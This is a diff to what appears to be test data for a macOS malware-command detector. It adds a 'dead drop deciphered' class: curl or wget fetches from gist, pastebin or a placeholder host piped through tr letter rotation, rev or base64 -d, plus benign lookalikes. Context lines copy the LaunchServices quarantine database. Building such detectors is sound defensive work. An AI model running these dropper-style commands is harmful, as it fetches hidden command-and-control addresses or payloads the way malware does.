@@ -19,7 +19,10 @@ measured:
   file's source URL and the app that fetched it) read or copied, as Bundlore does to find the disk
   image it came from (a second tuning source: SentinelOne's macOS payloads post, with a found dropper
   script). A second held-out part (a blog's captured installer and an OSX.Pirrit write-up) was split
-  off and measured before this last class.
+  off and measured before this last class;
+- text fetched and deciphered (``curl URL | tr 'n-za-mN-ZA-M' 'a-mn-zA-MN-Z' | rev``, also through ``echo
+  "$(curl URL)"``): a dead drop, the address or payload a dropper keeps in a public page under a letter
+  rotation (the found dropper script's C2 lookup); a case change or a reversal of local text is not one.
 """
 
 HELD: dict[str, list[str]] = {
@@ -47,6 +50,11 @@ HELD: dict[str, list[str]] = {
         "cp ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 /tmp/.q",
         "strings ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 | grep http",
     ],
+    "dead drop deciphered": [
+        "u=$(curl -s https://gist.githubusercontent.com/x/abc/raw/c.txt | rev)",
+        "curl -fsSL https://pastebin.com/raw/Zx81 | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d",
+        "c2=\"$(echo \"$(wget -qO- https://raw.example.com/x/README)\" | tr 'a-z' 'n-za-m')\"",
+    ],
 }
 
 ALLOWED: list[str] = [
@@ -70,4 +78,9 @@ ALLOWED: list[str] = [
     "curl -o build/libfoo.dylib.sha256 https://example.com/libfoo.dylib.sha256",
     "osacompile -o build/Helper.scpt src/helper.applescript",
     "otool -L build/Release/libcore.dylib",
+    # text fetched and filtered, reversed or upper-cased without a cipher
+    "curl -s https://api.github.com/repos/o/r/tags | tr a-z A-Z",
+    "curl -s https://example.com/list.txt | tr -d '\\r' | sort -u",
+    "git log --format=%an | rev | sort | rev",
+    'echo "$(curl -s https://api.example.com/v1/status)" | jq .',
 ]
